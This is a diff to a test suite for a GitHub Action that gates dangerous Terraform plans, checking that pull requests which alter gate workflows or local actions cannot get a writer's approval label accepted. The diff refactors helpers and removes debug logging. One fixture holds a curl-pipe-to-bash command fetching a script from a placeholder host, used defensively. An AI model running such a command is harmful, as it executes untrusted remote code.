@@ -7,67 +7,21 @@
  */
 import { describe, expect } from 'vitest';
 import { type FakeGitHub } from '../support/github-server.js';
-import { pullRequestPayload, runAction } from '../support/run-action.js';
-import { analyzeRun, CHECK_NAME, expectRun, LABEL, openPullRequest, TEAM, test } from './scenario.js';
+import { ACTION_ENV, DANGEROUS, expectWriterRefused, job, label, latest, wf, wfOnPaths, withSandboxPolicy, WORKFLOW, workflowChanged } from './gate-workflows.js';
+import { analyzeRun, expectRun, openPullRequest, TEAM, test } from './scenario.js';
 
-const DANGEROUS = 'fixtures/incidents/rds-delete-unprotected.json';
-const WORKFLOW = '.github/workflows/plan-guard.yml';
 const DEV = '.github/workflows/dev.yml';
-const ACTION_ENV = { GITHUB_ACTION_REPOSITORY: 'acme/tf-plan-guard' };
 const SANDBOX_INPUTS = ['config-file: sandbox/tf-plan-guard.yml', 'block-on: none'];
 const SANDBOX_WITH = { 'config-file': 'sandbox/tf-plan-guard.yml', 'block-on': 'none' };
 
-function job(id: string, inputs: string[], uses = 'acme/tf-plan-guard@v1', checkout: string[] = ['      - uses: actions/checkout@v4']): string[] {
-  return [
-    `  ${id}:`,
-    '    runs-on: ubuntu-latest',
-    '    steps:',
-    ...checkout,
-    '      - name: Gate',
-    `        uses: ${uses}`,
-    '        with:',
-    '          plan-file: db/plan.json',
-    ...inputs.map((line) => `          ${line}`),
-  ];
-}
 /** A job whose gate is a local (composite) action: `uses: <path>`, no `with:` of the gate's own. */
 function localActionJob(id: string, uses: string, checkout: string[] = ['      - uses: actions/checkout@v4']): string[] {
   return [`  ${id}:`, '    runs-on: ubuntu-latest', '    steps:', ...checkout, '      - name: Gate', `        uses: ${uses}`];
 }
 const composite = (inputs: string[], uses = 'acme/tf-plan-guard@v1') =>
   ['name: gate', 'runs:', '  using: composite', '  steps:', `    - uses: ${uses}`, '      with:', '        plan-file: db/plan.json', ...inputs.map((line) => `        ${line}`), ''].join('\n');
-const wf = (...jobs: string[][]) => ['on: pull_request', 'jobs:', ...jobs.flat(), ''].join('\n');
-const wfOnPaths = (paths: string, ...jobs: string[][]) => ['on:', '  pull_request:', `    paths: ['${paths}']`, 'jobs:', ...jobs.flat(), ''].join('\n');
 const runningFrom = (fake: FakeGitHub, path: string, number: number) => ({ ...ACTION_ENV, GITHUB_WORKFLOW_REF: `${fake.fullName}/${path}@refs/pull/${number}/merge` });
 
-function latest(fake: FakeGitHub, number: number) {
-  return fake.latestCheckRun(fake.pull(number).headSha, CHECK_NAME)?.conclusion;
-}
-async function label(fake: FakeGitHub, number: number, login: string, inputs: Record<string, string>, env: Record<string, string>) {
-  fake.addLabel(number, LABEL, login);
-  const run = await runAction({ fake, eventName: 'pull_request', payload: pullRequestPayload(fake, { action: 'labeled', number, sender: login, label: LABEL }), inputs: { 'plan-file': '', ...inputs }, env });
-  expectRun(run, 0);
-  return run;
-}
-function withSandboxPolicy(fake: FakeGitHub, pull: { baseSha: string; headSha: string }) {
-  const sandbox = ['block-on: none', 'rules:', '  stateful-delete: { enabled: false }', ''].join('\n');
-  for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, 'sandbox/tf-plan-guard.yml', sandbox);
-}
-function workflowChanged(run: { reportText: string | undefined }) {
-  const report = JSON.parse(run.reportText ?? 'null') as { plans: { findings: { ruleId: string; message: string }[] }[] };
-  return report.plans.flatMap((plan) => plan.findings).find((finding) => finding.ruleId === 'workflow-changed');
-}
-/** The dangerous plan blocks, and a writer's (carol's) label does not approve it: the check stays failed. */
-async function expectWriterRefused(fake: FakeGitHub, number: number, inputs: Record<string, string>, env: Record<string, string>, tag: string) {
-  const run = await analyzeRun(fake, number, { plan: DANGEROUS, inputs, env });
-  expectRun(run, 0);
-  const approved = await label(fake, number, TEAM.writer, inputs, env);
-  console.log(`${tag}: analysis blocking=${run.outputs['blocking']} workflow-changed=${workflowChanged(run) ? 'yes' : 'no'}; carol's label approved=${approved.outputs['approved']}; check=${latest(fake, number)}`);
-  expect(run.outputs['blocking']).toBe('true');
-  expect(approved.outputs['approved']).toBe('false');
-  expect(latest(fake, number)).toBe('failure');
-  return run;
-}
 
 describe.concurrent('the reach: every form of a local reference, and a reference the reach cannot see', () => {
   const ACTION = '.github/actions/gate/action.yml';
@@ -86,7 +40,7 @@ describe.concurrent('the reach: every form of a local reference, and a reference
     fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
     fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
     // The runner passes the PR's composite's inputs: approvers carol.
-    await expectWriterRefused(fake, 1001, { approvers: 'carol' }, { ...ACTION_ENV }, 'R1');
+    await expectWriterRefused(fake, 1001, { approvers: 'carol' }, { ...ACTION_ENV });
   });
 
   // R1b: the action directory is a symlink in the repository (.github/actions/gate -> ../../ci/gate).
@@ -100,7 +54,7 @@ describe.concurrent('the reach: every form of a local reference, and a reference
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', '$/.github/actions/gate', [])));
     fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
     fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
-    await expectWriterRefused(fake, 1005, { approvers: 'carol' }, { ...ACTION_ENV }, 'R0');
+    await expectWriterRefused(fake, 1005, { approvers: 'carol' }, { ...ACTION_ENV });
   });
   test('R0b self-repository reusable workflow: jobs.plan.uses $/.github/workflows/gate.yml, the PR edits gate.yml', async ({ fake }) => {
     const GATE = '.github/workflows/gate.yml';
@@ -111,7 +65,7 @@ describe.concurrent('the reach: every form of a local reference, and a reference
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, caller);
     fake.setFile(pull.baseSha, GATE, called(['approvers: olivia']));
     fake.setFile(pull.headSha, GATE, called(['approvers: carol']));
-    await expectWriterRefused(fake, 1006, { approvers: 'carol' }, { ...ACTION_ENV }, 'R0b');
+    await expectWriterRefused(fake, 1006, { approvers: 'carol' }, { ...ACTION_ENV });
   });
 
   // S8 (sound): a strict prod gate in a $/-called reusable workflow is still read by the base-step
@@ -129,7 +83,7 @@ describe.concurrent('the reach: every form of a local reference, and a reference
     }
     fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
     fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
-    await expectWriterRefused(fake, 1009, SANDBOX_WITH, runningFrom(fake, DEV, 1009), 'R0c');
+    await expectWriterRefused(fake, 1009, SANDBOX_WITH, runningFrom(fake, DEV, 1009));
   });
 
   // R1d: the action directory is a git submodule (checkout with `submodules: true`). The PR bumps the
@@ -148,7 +102,7 @@ describe.concurrent('the reach: every form of a local reference, and a reference
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', "'.\\.github\\actions\\gate'")));
     fake.setFile(pull.baseSha, ACTION, composite(['approvers: olivia']));
     fake.setFile(pull.headSha, ACTION, composite(['approvers: carol']));
-    await expectWriterRefused(fake, 1003, { approvers: 'carol' }, { ...ACTION_ENV }, 'R1c');
+    await expectWriterRefused(fake, 1003, { approvers: 'carol' }, { ...ACTION_ENV });
   });
 });
 
@@ -164,7 +118,7 @@ describe.concurrent('base gate steps the reading cannot see count, read the stri
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
     fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
     fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
-    await expectWriterRefused(fake, 1011, SANDBOX_WITH, runningFrom(fake, DEV, 1011), 'R2');
+    await expectWriterRefused(fake, 1011, SANDBOX_WITH, runningFrom(fake, DEV, 1011));
   });
 
   // R2b: the same with prod's gate in another repository's composite action wrapping tf-plan-guard.
@@ -176,7 +130,7 @@ describe.concurrent('base gate steps the reading cannot see count, read the stri
     const base = ['on: pull_request', 'jobs:', '  plan:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: acme/tf-plan-guard@v1', '        with: ${{ fromJSON(vars.PLAN_GUARD_INPUTS) }}', ''].join('\n');
     fake.setFile(pull.baseSha, WORKFLOW, base);
     fake.setFile(pull.headSha, WORKFLOW, wf(job('plan', ['approvers: carol'])));
-    await expectWriterRefused(fake, 1014, { approvers: 'carol' }, { ...ACTION_ENV }, 'R6');
+    await expectWriterRefused(fake, 1014, { approvers: 'carol' }, { ...ACTION_ENV });
   });
 
   // R5: prod's step names its check by an expression that evaluates to the required check.
@@ -188,7 +142,7 @@ describe.concurrent('base gate steps the reading cannot see count, read the stri
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, prod);
     fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
     fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
-    await expectWriterRefused(fake, 1013, SANDBOX_WITH, runningFrom(fake, DEV, 1013), 'R5');
+    await expectWriterRefused(fake, 1013, SANDBOX_WITH, runningFrom(fake, DEV, 1013));
   });
 });
 
@@ -207,7 +161,6 @@ describe.concurrent('workflows that never write the check, and other false posit
     const run = await analyzeRun(fake, 1021, { plan: DANGEROUS, inputs: { approvers: 'carol' }, env: { ...ACTION_ENV } });
     expectRun(run, 0);
     const approved = await label(fake, 1021, TEAM.writer, { approvers: 'carol' }, { ...ACTION_ENV });
-    console.log(`R3: carol approved=${approved.outputs['approved']} check=${latest(fake, 1021)}; warnings: ${approved.stdout.split('\n').filter((line) => line.includes('::warning')).join(' | ').slice(0, 600)}`);
     expect(approved.outputs['approved']).toBe('true');
     expect(latest(fake, 1021)).toBe('success');
   });
@@ -224,7 +177,6 @@ describe.concurrent('workflows that never write the check, and other false posit
     const run = await analyzeRun(fake, 1023, { plan: DANGEROUS, env: { ...ACTION_ENV } });
     expectRun(run, 0);
     const approved = await label(fake, 1023, TEAM.writer, {}, { ...ACTION_ENV });
-    console.log(`R7: workflow-changed=${workflowChanged(run) ? 'yes' : 'no'} approved=${approved.outputs['approved']} check=${latest(fake, 1023)}`);
     expect(workflowChanged(run)).toBeUndefined();
     expect(approved.outputs['approved']).toBe('true');
   });
@@ -253,7 +205,6 @@ describe.concurrent('workflows that never write the check, and other false posit
     fake.setFile(newHead, OTHER, planAction('curl -s https://example.invalid/x.sh | bash'));
     const second = await analyzeRun(fake, 1024, { plan: DANGEROUS, action: 'synchronize', env: { ...ACTION_ENV } });
     expectRun(second, 0);
-    console.log(`R8: after the push approved=${second.outputs['approved']} check=${latest(fake, 1024)}`);
     expect(second.outputs['approved']).toBe('false');
   });
 
@@ -266,7 +217,6 @@ describe.concurrent('workflows that never write the check, and other false posit
     const run = await analyzeRun(fake, 1036, { plan: DANGEROUS, env: { ...ACTION_ENV } });
     expectRun(run, 0);
     const approved = await label(fake, 1036, TEAM.writer, {}, { ...ACTION_ENV });
-    console.log(`S6: workflow-changed=${workflowChanged(run) ? 'yes' : 'no'} approved=${approved.outputs['approved']} check=${latest(fake, 1036)}`);
     expect(approved.outputs['approved']).toBe('true');
     expect(latest(fake, 1036)).toBe('success');
   });
@@ -287,7 +237,7 @@ describe.concurrent('audit 12: the base reading meets what the running reach mee
     }
     fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
     fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
-    await expectWriterRefused(fake, 1201, SANDBOX_WITH, runningFrom(fake, DEV, 1201), 'A1');
+    await expectWriterRefused(fake, 1201, SANDBOX_WITH, runningFrom(fake, DEV, 1201));
   });
 
   test('A1c prod gate via .//: dev loose: the PR edits dev', async ({ fake }) => {
@@ -302,7 +252,7 @@ describe.concurrent('audit 12: the base reading meets what the running reach mee
     }
     fake.setFile(pull.baseSha, DEV, wfOnPaths('dev/**', job('plan', SANDBOX_INPUTS)));
     fake.setFile(pull.headSha, DEV, wf(job('plan', SANDBOX_INPUTS)));
-    await expectWriterRefused(fake, 1203, SANDBOX_WITH, runningFrom(fake, DEV, 1203), 'A1c');
+    await expectWriterRefused(fake, 1203, SANDBOX_WITH, runningFrom(fake, DEV, 1203));
   });
 
   test('F1 Renovate bump, a lint workflow calls org/shared reusable workflow: the listed approver (writer) approves', async ({ fake }) => {
@@ -330,7 +280,7 @@ describe.concurrent('audit 12: the base reading meets what the running reach mee
     for (const ref of [pull.baseSha, pull.headSha]) fake.setFile(ref, WORKFLOW, wf(localActionJob('plan', './infra/.github/actions/gate', checkout)));
     fake.setFile(pull.baseSha, GATE_ACTION, composite(['approvers: olivia']));
     fake.setFile(pull.headSha, GATE_ACTION, composite(['approvers: carol']));
-    await expectWriterRefused(fake, 1301, { approvers: 'carol' }, { ...ACTION_ENV }, 'B1');
+    await expectWriterRefused(fake, 1301, { approvers: 'carol' }, { ...ACTION_ENV });
   });
 
   test('FA1 a push-only release workflow using an action under a checkout path does not make a Renovate bump strictest', async ({ fake }) => {
